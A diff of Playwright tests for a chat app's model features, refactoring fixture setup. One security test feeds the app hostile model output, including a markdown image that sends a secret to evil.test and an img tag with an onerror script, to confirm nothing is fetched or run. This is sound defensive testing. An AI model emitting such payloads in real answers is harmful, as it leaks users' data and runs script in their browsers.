@@ -2,26 +2,16 @@ import { join } from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
 import type { Locator } from '@playwright/test';
 import { answer, callTools } from '../../fakeModels/reply.ts';
-import {
-  answers,
-  approval,
-  goTo,
-  idle,
-  newChat,
-  send,
-  startWithSample,
-  toolCall,
-  useFakeModel,
-} from '../../fixtures/actions.ts';
+import { answers, approval, goTo, idle, newChat, send, toolCall, useFakeModel } from '../../fixtures/actions.ts';
 import { expect, test } from '../../fixtures/fakeModelTest.ts';
 
 test.describe('models', { tag: '@shell' }, () => {
-  test('stream their answers and use the tools of servers', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('stream their answers and use the tools of servers', async ({ launch, fakeModel }) => {
     const model = await fakeModel((_request, n) =>
       n === 0 ? callTools({ name: 'Sample_echo', arguments: { message: 'from the model' } }) : answer('It said it.'),
     );
-    await startWithSample(page);
+    const app = await launch({ world: { hasSample: true } });
+    const { page } = app;
     await useFakeModel(app, model.baseUrl, 'sk-canary-123');
     await send(page, 'Please echo something');
     await approval(page, 'Sample', 'echo').getByRole('button', { name: 'Allow once' }).click();
@@ -30,11 +20,9 @@ test.describe('models', { tag: '@shell' }, () => {
     expect(JSON.stringify(model.requests[1]?.body)).toContain('from the model');
   });
 
-  test('are asked with the settings of the chat, as far as they have them', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('are asked with the settings of the chat, as far as they have them', async ({ launch, fakeModel }) => {
     const model = await fakeModel(() => answer('Fine.'));
-    await useFakeModel(app, model.baseUrl, 'sk-canary-123');
-    await newChat(page);
+    const { page } = await launch({ world: { models: [model] } });
     const open = () => page.getByRole('button', { name: 'Model settings' }).click();
     const card = page.getByRole('dialog', { name: 'Model settings' });
     await open();
@@ -58,14 +46,13 @@ test.describe('models', { tag: '@shell' }, () => {
     await expect.poll(() => model.requests[1]?.body).toMatchObject({ reasoning_effort: 'high', max_tokens: 777 });
   });
 
-  test('show what to do after an error, and can be asked again', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('show what to do after an error, and can be asked again', async ({ launch, fakeModel }) => {
     const model = await fakeModel((_request, n) =>
       n === 0
         ? { status: 401, error: { type: 'invalid_api_key', message: 'Incorrect API key' } }
         : answer('Now it works.'),
     );
-    await useFakeModel(app, model.baseUrl, 'wrong');
+    const { page } = await launch({ world: { models: [model] } });
     await send(page, 'Hello');
     const alert = answers(page).last();
     await expect(alert).toContainText(/key/i);
@@ -73,22 +60,20 @@ test.describe('models', { tag: '@shell' }, () => {
     await expect(answers(page).last()).toContainText('Now it works.');
   });
 
-  test('keep their text when the answer breaks off', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('keep their text when the answer breaks off', async ({ launch, fakeModel }) => {
     const model = await fakeModel(() => ({ steps: [{ text: 'This much came' }, { cut: true }] }));
-    await useFakeModel(app, model.baseUrl);
+    const { page } = await launch({ world: { models: [model] } });
     await send(page, 'Hello');
     await expect(answers(page).last()).toContainText('This much came');
     await expect(answers(page).last().getByRole('button', { name: 'Retry' })).toBeVisible();
   });
 
-  test('show the same text after a reload in mid-stream', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('show the same text after a reload in mid-stream', async ({ launch, fakeModel }) => {
     const goOn = Promise.withResolvers<void>();
     const before = Array.from({ length: 40 }, (_, n) => ({ text: `Word ${n}. ` }));
     const after = Array.from({ length: 40 }, (_, n) => ({ text: `More ${n}. ` }));
     const model = await fakeModel(() => ({ steps: [...before, { wait: goOn.promise }, ...after] }));
-    await useFakeModel(app, model.baseUrl);
+    const { page } = await launch({ world: { models: [model] } });
     await send(page, 'Tell me');
     const words = before
       .map(({ text }) => text)
@@ -109,19 +94,17 @@ test.describe('models', { tag: '@shell' }, () => {
     await expect(text).toHaveText(whole);
   });
 
-  test('get a readable error when they call a missing tool', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('get a readable error when they call a missing tool', async ({ launch, fakeModel }) => {
     const model = await fakeModel((_request, n) =>
       n === 0 ? callTools({ name: 'no_such_tool', arguments: '{"half": ' }) : answer('Sorry.'),
     );
-    await useFakeModel(app, model.baseUrl);
+    const { page } = await launch({ world: { models: [model] } });
     await send(page, 'Hello');
     await expect(answers(page).last()).toContainText('Sorry.');
     expect(JSON.stringify(model.requests[1]?.body)).toContain('There is no tool called');
   });
 
-  test('have their calls made side by side, with a card for each', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('have their calls made side by side, with a card for each', async ({ launch, fakeModel }) => {
     const model = await fakeModel((_request, n) =>
       n === 0
         ? callTools(
@@ -130,8 +113,7 @@ test.describe('models', { tag: '@shell' }, () => {
           )
         : answer('Both done.'),
     );
-    await startWithSample(page);
-    await useFakeModel(app, model.baseUrl);
+    const { page } = await launch({ world: { models: [model], hasSample: true } });
     await send(page, 'Go');
     const card = approval(page, 'Sample', 'add');
     const allow = card.getByRole('button', { name: 'Allow once' });
@@ -149,13 +131,12 @@ test.describe('models', { tag: '@shell' }, () => {
     await expect(answers(page).last()).toContainText('Both done.');
   });
 
-  test('get messages that were typed meanwhile when they are done', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('get messages that were typed meanwhile when they are done', async ({ launch, fakeModel }) => {
     const gate = Promise.withResolvers<void>();
     const model = await fakeModel((_request, n) =>
       n === 0 ? { steps: [{ text: 'First' }, { wait: gate.promise }] } : answer('Second'),
     );
-    await useFakeModel(app, model.baseUrl);
+    const { page } = await launch({ world: { models: [model] } });
     await send(page, 'one');
     await expect(answers(page).last()).toContainText('First');
     await send(page, 'two');
@@ -169,8 +150,7 @@ test.describe('models', { tag: '@shell' }, () => {
     const model = await fakeModel((_request, n) =>
       n === 0 ? answer('A finished answer.') : { steps: [{ text: 'Half of an answer' }, { wait: never.promise }] },
     );
-    const app = await launch();
-    await useFakeModel(app, model.baseUrl);
+    const app = await launch({ world: { models: [model] } });
     await send(app.page, 'first question');
     await expect(answers(app.page).last()).toContainText('A finished answer.');
     await idle(app.page);
@@ -192,8 +172,7 @@ test.describe('models', { tag: '@shell' }, () => {
     dataFolder,
   }) => {
     const model = await fakeModel(() => answer('An answer.'));
-    const app = await launch();
-    await useFakeModel(app, model.baseUrl);
+    const app = await launch({ world: { models: [model] } });
     await send(app.page, 'first question');
     await idle(app.page);
     const draft = 'Half of a thought, 一半';
@@ -211,17 +190,9 @@ test.describe('models', { tag: '@shell' }, () => {
   });
 
   test('cannot make the page fetch, run or open anything with their text (security cases 21, 22, 23, 24, 25, 33)', async ({
-    app,
+    launch,
     fakeModel,
   }) => {
-    const { page } = app;
-    const asked: string[] = [];
-    page.on('request', (request) => asked.push(request.url()));
-    let dialogs = 0;
-    page.on('dialog', (dialog) => {
-      dialogs++;
-      void dialog.dismiss();
-    });
     const hostile = [
       '![x](https://evil.test/pixel.png?q=secret)',
       '<img src=https://evil.test/a.png onerror=alert(1)>',
@@ -231,7 +202,14 @@ test.describe('models', { tag: '@shell' }, () => {
       '[fine](https://good.test/)',
     ].join('\n\n');
     const model = await fakeModel(() => ({ steps: [{ text: hostile }] }));
-    await useFakeModel(app, model.baseUrl);
+    const { page } = await launch({ world: { models: [model] } });
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    let dialogs = 0;
+    page.on('dialog', (dialog) => {
+      dialogs++;
+      void dialog.dismiss();
+    });
     await send(page, 'Hello');
     await expect(answers(page).last()).toContainText('fine');
     await idle(page);
@@ -241,10 +219,9 @@ test.describe('models', { tag: '@shell' }, () => {
     await expect(page.locator('a[href^="javascript:"], a[href^="file:"], a[href^="data:"]')).toHaveCount(0);
   });
 
-  test('are listed by their provider, and a wrong address is reported', async ({ app, fakeModel }) => {
-    const { page } = app;
+  test('are listed by their provider, and a wrong address is reported', async ({ launch, fakeModel }) => {
     const model = await fakeModel(() => answer('x'));
-    await useFakeModel(app, model.baseUrl);
+    const { page } = await launch({ world: { models: [model] } });
     await goTo(page, 'Settings');
     await page.getByRole('button', { name: 'Check models' }).last().click();
     await expect(page.getByText(/^\d+ models? found$/)).toBeVisible();
